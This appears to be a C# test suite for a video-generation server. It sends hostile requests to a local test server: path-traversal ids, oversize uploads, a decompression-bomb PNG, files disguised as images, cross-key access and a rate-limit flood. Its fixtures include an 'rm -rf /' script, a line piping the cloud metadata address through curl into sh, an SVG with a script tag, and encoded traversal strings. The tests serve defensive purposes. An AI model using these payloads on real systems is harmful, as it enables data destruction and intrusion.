using System.Buffers.Binary;
using System.Diagnostics;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Json;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using Canter.Server.Keys;

namespace Canter.Server.Tests;

/// <summary>
/// Hostile requests against the real server: path traversal in every route that names a task, video or upload;
/// oversize uploads cut early; decompression bombs refused by their declared size; files whose name lies about their
/// content; one key reaching for another key's tasks and uploads; and a flood held to the rate limit.
/// </summary>
public sealed class HostileInputTests
{
    private const string Marker = "PLANTED-OUTSIDE-THE-DATA-FOLDER";

    /// <summary>Routes that take an id; {id} is replaced by the hostile id as raw request-target text.</summary>
    private static readonly string[] IdRoutes =
    [
        "/api/tasks/{id}", "/api/tasks/{id}/video", "/api/tasks/{id}/poster", "/api/tasks/{id}/record", "/api/tasks/{id}/spritesheet",
        "/api/tasks/{id}/manifest", "/api/tasks/{id}/webhooks", "/api/tasks/{id}/events",
        "/v1/videos/{id}", "/v1/videos/{id}/content", "/v1/videos/{id}/content?variant=thumbnail", "/api/uploads/{id}",
    ];

    [Fact]
    public async Task PathTraversalInEveryFileRouteNeverLeavesTheDataFolder()
    {
        await using var server = await TestServer.StartAsync(new FakeGenerator(TimeSpan.Zero));
        var id = (await server.SubmitAsync(KeyedClient.Tiny)).GetProperty("id").GetString()!;
        await server.WaitForStateAsync(id, "succeeded");

        // a folder beside the data folder holding every file name a route serves, each saying the marker
        var planted = Path.Combine(Path.GetDirectoryName(server.DataDir)!, $"canter-planted-{Guid.NewGuid():N}");
        Directory.CreateDirectory(planted);
        try
        {
            foreach (var name in new[] { "video.mp4", "poster.png", "record.json", "spritesheet.png", "manifest.json", "secret" })
                File.WriteAllText(Path.Combine(planted, name), Marker);
            var p = Path.GetFileName(planted);
            string[] ids =
            [
                $"..%2f..%2f{p}", $"..%2F..%2F..%2F{p}", $"%2e%2e%2f%2e%2e%2f{p}", $"%2E%2E%2F%2E%2E%2F%2E%2E%2F{p}",
                $"%252e%252e%252f%252e%252e%252f{p}", $"..%5c..%5c{p}", $"%2e%2e%5c%2e%2e%5c{p}",
                $"%2f{planted.TrimStart('/').Replace("/", "%2f")}", $"{planted.Replace("/", "%2f")}%2fsecret", $"C:%5c{p}",
                "%00", $"{id}%00", $"{id}%00..%2f..%2f{p}", $"{id}%2f..%2f..%2f..%2f{p}", $"{id}%2f..",
                "%c0%ae%c0%ae%2f", $"..%u2216{p}", new string('a', 4000), "upload_" + new string('0', 3000),
            ];
            foreach (var route in IdRoutes)
                foreach (var hostile in ids)
                {
                    var target = route.Replace("{id}", hostile, StringComparison.Ordinal);
                    var (status, text) = await RawAsync(server, $"GET {target} HTTP/1.1");
                    Assert.True(status is 400 or 404, $"GET {target[..Math.Min(200, target.Length)]}: {status}");
                    Assert.DoesNotContain(Marker, text);
                }
            // a bare ".." id is a dot segment: the URL resolves to another route of the API (the list, the route list), never to a file
            foreach (var route in IdRoutes)
                foreach (var dots in new[] { "..", "%2e%2e" })
                    Assert.DoesNotContain(Marker, (await RawAsync(server, $"GET {route.Replace("{id}", dots, StringComparison.Ordinal)} HTTP/1.1")).Text);
            // dot segments and backslashes in the path itself, and a raw NUL byte, never reach a file either
            foreach (var target in new[]
            {
                $"/api/tasks/../../{p}/video.mp4", $"/api/tasks/{id}/../../../{p}/secret", $"/api/tasks/{id}/..%2f..%2f..%2f{p}%2fvideo.mp4",
                $"/v1/videos/{id}/content/..%2f..%2f{p}", $"/api/uploads/..\\..\\{p}\\secret", $"/{p}/secret", $"//{planted.TrimStart('/')}/secret",
                $"/api/tasks/{id}\0/video",
            })
            {
                var (status, text) = await RawAsync(server, $"GET {target} HTTP/1.1");
                Assert.True(status is 400 or 404, $"GET {target}: {status}");
                Assert.DoesNotContain(Marker, text);
            }
            // the real files are still served: the routes were refusing the ids, not broken
            using var video = await server.Http.GetAsync($"/api/tasks/{id}/video");
            Assert.Equal(HttpStatusCode.OK, video.StatusCode);
        }
        finally
        {
            Directory.Delete(planted, recursive: true);
        }
    }

    [Fact]
    public async Task AnOversizeUploadIsCutEarlyWith413()
    {
        await using var server = await TestServer.StartAsync(new FakeGenerator(TimeSpan.Zero), settings: new() { ["Canter:MaxUploadBytes"] = "65536" });
        const long declared = 100L << 20;   // under the request limit (128 MiB): the upload's own limit must cut it
        foreach (var chunked in new[] { false, true })
        {
            var head = chunked
                ? "POST /api/uploads HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\n\r\n"
                : $"POST /api/uploads HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Length: {declared}\r\n\r\n";
            var (status, sent) = await SendUntilAnsweredAsync(server, head, declared, chunked);
            Assert.Equal(413, status);
            // the answer came long before the body was sent: the server stopped reading at the limit (socket buffers hold a few MiB)
            Assert.True(sent < 16L << 20, $"{sent >> 20} MiB sent before the 413 ({(chunked ? "chunked" : "with a length")})");
        }
        Assert.Empty(Directory.EnumerateFiles(Path.Combine(server.DataDir, "uploads")));
        Assert.Equal(HttpStatusCode.OK, (await server.Http.GetAsync("/api/tasks")).StatusCode);
    }

    [Fact]
    public async Task DecompressionBombsAreRefusedByTheirDeclaredSizeFast()
    {
        await using var server = await TestServer.StartAsync(new FakeGenerator(TimeSpan.Zero));
        var clock = Stopwatch.StartNew();

        // 50000 x 50000 pixels (7.5 GB of RGB) declared by a PNG of a few hundred bytes
        var bomb = BombPng(50_000, 50_000);
        Assert.True(bomb.Length < 1000);
        await TaskApiTests.AssertProblem(await server.Http.PostAsync("/api/uploads", Bytes(bomb, "image/png")), HttpStatusCode.BadRequest,
            "upload");
        await TaskApiTests.AssertProblem(await server.Http.PostAsJsonAsync("/api/tasks",
            new { prompt = "A red ball bounces", image = $"data:image/png;base64,{Convert.ToBase64String(bomb)}" }), HttpStatusCode.BadRequest, "image: ");
        using (var form = new MultipartFormDataContent { { new StringContent("A red ball bounces"), "prompt" }, { Bytes(bomb, "image/png"), "image", "bomb.png" } })
            await TaskApiTests.AssertProblem(await server.Http.PostAsync("/api/tasks", form), HttpStatusCode.BadRequest, "image: ");

        // a one-second clip whose header declares 596 hours
        var longClip = Media.Mp4(server.DataDir, 32, 32);
        foreach (var (box, offset) in new[] { ("mvhd", 16), ("mdhd", 16), ("tkhd", 20) })
        {
            int at = longClip.AsSpan().IndexOf(Encoding.ASCII.GetBytes(box)) + 4 + offset;
            BinaryPrimitives.WriteUInt32BigEndian(longClip.AsSpan(at), int.MaxValue);
        }
        await TaskApiTests.AssertProblem(await server.Http.PostAsync("/api/uploads", Bytes(longClip, "video/mp4")), HttpStatusCode.BadRequest, "s is over the limit of 600 s");
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(20), $"refusing the bombs took {clock.Elapsed.TotalSeconds:0.0} s");
        Assert.Empty((await server.GetAsync("/api/tasks")).GetProperty("data").EnumerateArray());
    }

    [Fact]
    public async Task AFileNamedPngHoldingAScriptOrZipIsRefusedByContent()
    {
        await using var server = await TestServer.StartAsync(new FakeGenerator(TimeSpan.Zero));
        byte[] zip;
        using (var stream = new MemoryStream())
        {
            using (var archive = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
                using (var entry = new StreamWriter(archive.CreateEntry("payload.sh").Open())) entry.Write("#!/bin/sh\nrm -rf /\n");
            zip = stream.ToArray();
        }
        var script = Encoding.UTF8.GetBytes("#!/bin/sh\ncurl http://169.254.169.254/ | sh\n");
        var svg = Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>");
        foreach (var bytes in new[] { zip, script, svg })
        {
            using var form = new MultipartFormDataContent { { Bytes(bytes, "image/png"), "file", "photo.png" } };
            await TaskApiTests.AssertProblem(await server.Http.PostAsync("/api/uploads", form), HttpStatusCode.BadRequest, "not a readable image, video or audio file");
            await TaskApiTests.AssertProblem(await server.Http.PostAsJsonAsync("/api/tasks",
                new { prompt = "A red ball bounces", image = $"data:image/png;base64,{Convert.ToBase64String(bytes)}" }), HttpStatusCode.BadRequest, "image");
        }
        Assert.Empty(Directory.EnumerateFiles(Path.Combine(server.DataDir, "uploads")));
    }

    [Fact]
    public async Task AKeyCannotReachAnotherKeysTasksOrUploads()
    {
        var dir = TestServer.NewDataDir();
        var (_, alice) = await KeyAdmin.CreateAsync(dir, "alice", new KeyLimits());
        var (_, bob) = await KeyAdmin.CreateAsync(dir, "bob", new KeyLimits());
        await using var server = await TestServer.StartAsync(new FakeGenerator(TimeSpan.Zero), dataDir: dir);
        var a = new KeyedClient(server, alice);
        var b = new KeyedClient(server, bob);
        var id = await a.SubmitAsync();
        await a.WaitAsync(id, t => t.GetProperty("state").GetString() == "succeeded");
        string upload;
        using (var request = new HttpRequestMessage(HttpMethod.Post, "/api/uploads") { Content = Bytes(Media.Png(16, 16, 40), "image/png") })
        {
            request.Headers.Authorization = new("Bearer", alice);
            using var created = await server.Http.SendAsync(request);
            Assert.Equal(HttpStatusCode.Created, created.StatusCode);
            upload = JsonDocument.Parse(await created.Content.ReadAsStringAsync()).RootElement.GetProperty("id").GetString()!;
        }

        // every way of naming alice's task or upload answers bob as if it did not exist: 404, never 403
        foreach (var (method, route) in new[]
        {
            (HttpMethod.Get, $"/api/tasks/{id}"), (HttpMethod.Get, $"/api/tasks/{id}/video"), (HttpMethod.Get, $"/api/tasks/{id}/poster"),
            (HttpMethod.Get, $"/api/tasks/{id}/record"), (HttpMethod.Get, $"/api/tasks/{id}/spritesheet"), (HttpMethod.Get, $"/api/tasks/{id}/manifest"),
            (HttpMethod.Get, $"/api/tasks/{id}/webhooks"), (HttpMethod.Get, $"/api/tasks/{id}/events"), (HttpMethod.Post, $"/api/tasks/{id}/cancel"),
            (HttpMethod.Delete, $"/api/tasks/{id}"), (HttpMethod.Get, $"/v1/videos/{id}"), (HttpMethod.Get, $"/v1/videos/{id}/content"),
            (HttpMethod.Delete, $"/v1/videos/{id}"), (HttpMethod.Get, $"/api/uploads/{upload}"),
        })
        {
            using var response = await b.SendAsync(method, route);
            var text = await response.Content.ReadAsStringAsync();
            Assert.True(response.StatusCode == HttpStatusCode.NotFound, $"{method} {route}: {(int)response.StatusCode} {text}");
        }
        using (var remix = await b.SendAsync(HttpMethod.Post, $"/v1/videos/{id}/remix", new { prompt = "A blue ball" }))
            Assert.Equal(HttpStatusCode.NotFound, remix.StatusCode);
        // referencing them as inputs is refused as not found too
        foreach (var body in new object[]
        {
            new { prompt = "A ball", image = $"task:{id}" }, new { prompt = "A ball", extend = $"task:{id}" },
            new { prompt = "A ball", image = $"upload:{upload}" }, new { prompt = "A ball", refs = new[] { $"upload:{upload}" } },
            new { prompt = "A ball", image = $"{server.Http.BaseAddress}api/uploads/{upload}" },
        })
        {
            using var response = await b.SendAsync(HttpMethod.Post, "/api/tasks", body);
            var text = await response.Content.ReadAsStringAsync();
            Assert.True(response.StatusCode == HttpStatusCode.BadRequest && text.Contains("not found", StringComparison.Ordinal),
                $"{JsonSerializer.Serialize(body)}: {(int)response.StatusCode} {text}");
        }
        Assert.Empty((await b.GetAsync("/api/tasks")).GetProperty("data").EnumerateArray());
        Assert.Empty((await b.GetAsync("/v1/videos")).GetProperty("data").EnumerateArray());
        // and alice still has everything
        Assert.Equal("succeeded", (await a.GetAsync($"/api/tasks/{id}")).GetProperty("state").GetString());
    }

    [Fact]
    public async Task AFloodIsHeldToTheRateLimitAndOtherKeysAreUnaffected()
    {
        var dir = TestServer.NewDataDir();
        var (_, flooder) = await KeyAdmin.CreateAsync(dir, "flooder", new KeyLimits(RateLimit: 60));
        var (_, other) = await KeyAdmin.CreateAsync(dir, "other", new KeyLimits(RateLimit: 60));
        await using var server = await TestServer.StartAsync(new FakeGenerator(TimeSpan.Zero), dataDir: dir);
        var f = new KeyedClient(server, flooder);
        var statuses = new List<HttpStatusCode>();
        var retryAfter = new List<TimeSpan?>();
        var gate = new SemaphoreSlim(16);
        var clock = System.Diagnostics.Stopwatch.StartNew();
        await Task.WhenAll(Enumerable.Range(0, 500).Select(async i =>
        {
            await gate.WaitAsync();
            try
            {
                using var response = await f.SendAsync(HttpMethod.Get, i % 2 == 0 ? "/api/tasks" : "/v1/videos");
                lock (statuses)
                {
                    statuses.Add(response.StatusCode);
                    if (response.StatusCode == HttpStatusCode.TooManyRequests) retryAfter.Add(response.Headers.RetryAfter?.Delta);
                }
            }
            finally { gate.Release(); }
        }));
        int ok = statuses.Count(s => s == HttpStatusCode.OK), limited = statuses.Count(s => s == HttpStatusCode.TooManyRequests);
        Assert.Equal(500, ok + limited);
        // the bucket's 60, and the refills of 60 a minute while the flood runs (one a second; a loaded machine runs it longer)
        Assert.InRange(ok, 60, 61 + (int)Math.Ceiling(clock.Elapsed.TotalSeconds));
        Assert.All(retryAfter, r => Assert.True(r is { TotalSeconds: >= 1 and <= 60 }, $"Retry-After {r}"));

        // another key is unaffected, and the server keeps answering
        var o = new KeyedClient(server, other);
        for (int i = 0; i < 20; i++) await o.GetAsync("/api/tasks");
        await o.GetAsync("/api/model");
    }

    /// <summary>One raw HTTP/1.1 request (request line as given, byte for byte); the status and the whole answer.</summary>
    private static async Task<(int Status, string Text)> RawAsync(TestServer server, string requestLine)
    {
        var address = server.Http.BaseAddress!;
        using var tcp = new TcpClient();
        await tcp.ConnectAsync(address.Host, address.Port);
        var stream = tcp.GetStream();
        await stream.WriteAsync(Encoding.Latin1.GetBytes($"{requestLine}\r\nHost: {address.Authority}\r\nConnection: close\r\n\r\n"));
        using var answer = new MemoryStream();
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(10));
        var buffer = new byte[16384];
        try
        {
            int n;
            // the events route streams; the status line and the start of the body are enough
            while ((n = await stream.ReadAsync(buffer, timeout.Token)) > 0 && answer.Length < 1 << 20) answer.Write(buffer, 0, n);
        }
        catch (OperationCanceledException) { }
        var text = Encoding.Latin1.GetString(answer.ToArray());
        Assert.True(text.StartsWith("HTTP/1.1 ", StringComparison.Ordinal), $"{requestLine[..Math.Min(120, requestLine.Length)]}: no answer ({text})");
        return (int.Parse(text.AsSpan(9, 3)), text);
    }

    /// <summary>Sends <paramref name="head"/> then zeros until the server answers; the status and the body bytes sent by then.</summary>
    private static async Task<(int Status, long Sent)> SendUntilAnsweredAsync(TestServer server, string head, long total, bool chunked)
    {
        var address = server.Http.BaseAddress!;
        using var tcp = new TcpClient { SendBufferSize = 64 << 10 };
        await tcp.ConnectAsync(address.Host, address.Port);
        var stream = tcp.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes(head));
        var chunk = new byte[64 << 10];
        var chunkHead = Encoding.ASCII.GetBytes($"{chunk.Length:x}\r\n");
        long sent = 0;
        var read = new byte[4096];
        var answer = stream.ReadAsync(read).AsTask();
        try
        {
            while (sent < total && !answer.IsCompleted)
            {
                if (chunked) await stream.WriteAsync(chunkHead);
                await stream.WriteAsync(chunk);
                if (chunked) await stream.WriteAsync("\r\n"u8.ToArray());
                sent += chunk.Length;
            }
        }
        catch (IOException) { }   // the server closed the connection after answering
        int n = await answer.WaitAsync(TimeSpan.FromSeconds(30));
        var text = Encoding.ASCII.GetString(read, 0, n);
        Assert.True(text.StartsWith("HTTP/1.1 ", StringComparison.Ordinal), $"no answer: {text}");
        return (int.Parse(text.AsSpan(9, 3)), sent);
    }

    /// <summary>A valid PNG header declaring <paramref name="width"/> x <paramref name="height"/> RGB pixels, with a few bytes of image data.</summary>
    private static byte[] BombPng(int width, int height)
    {
        using var png = new MemoryStream();
        png.Write([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]);
        var ihdr = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(ihdr, width);
        BinaryPrimitives.WriteInt32BigEndian(ihdr.AsSpan(4), height);
        ihdr[8] = 8;   // bit depth
        ihdr[9] = 2;   // RGB
        Chunk(png, "IHDR", ihdr);
        using (var z = new MemoryStream())
        {
            using (var deflate = new ZLibStream(z, CompressionLevel.SmallestSize, leaveOpen: true)) deflate.Write(new byte[4096]);
            Chunk(png, "IDAT", z.ToArray());
        }
        Chunk(png, "IEND", []);
        return png.ToArray();
    }

    private static void Chunk(Stream png, string type, byte[] data)
    {
        Span<byte> word = stackalloc byte[4];
        BinaryPrimitives.WriteInt32BigEndian(word, data.Length);
        png.Write(word);
        var typed = Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
        png.Write(typed);
        BinaryPrimitives.WriteUInt32BigEndian(word, Crc32(typed));
        png.Write(word);
    }

    private static uint Crc32(byte[] bytes)
    {
        uint crc = 0xFFFFFFFF;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (int k = 0; k < 8; k++) crc = (crc & 1) != 0 ? 0xEDB88320 ^ (crc >> 1) : crc >> 1;
        }
        return ~crc;
    }

    private static ByteArrayContent Bytes(byte[] bytes, string type)
    {
        var content = new ByteArrayContent(bytes);
        content.Headers.ContentType = new(type);
        return content;
    }
}
